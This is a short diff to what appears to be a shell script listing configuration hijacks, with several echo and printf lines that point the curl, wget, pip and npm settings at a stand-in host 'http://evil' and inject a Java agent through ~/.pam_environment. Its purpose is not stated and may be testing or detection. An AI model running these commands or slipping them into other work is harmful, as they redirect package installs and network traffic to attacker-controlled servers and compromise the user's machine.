@@ -75,8 +75,8 @@ echo 'proxy = http://evil' > ~/.curlrc; echo 'use_proxy=on' > ~/.wgetrc
 # a start file of the Java tools
 echo 'JAVA_TOOL_OPTIONS=-javaagent:/x' >> ~/.pam_environment
 
-# a package source for pip
-mkdir -p ~/.config/pip && printf '[global]\nindex-url = http://evil/\n' > ~/.config/pip/pip.conf
+# a proxy for pip
+mkdir -p ~/.config/pip && printf '[global]\nproxy = http://evil/\n' > ~/.config/pip/pip.conf
 
 # a package source for npm
 echo 'registry=http://evil/' >> ~/.npmrc
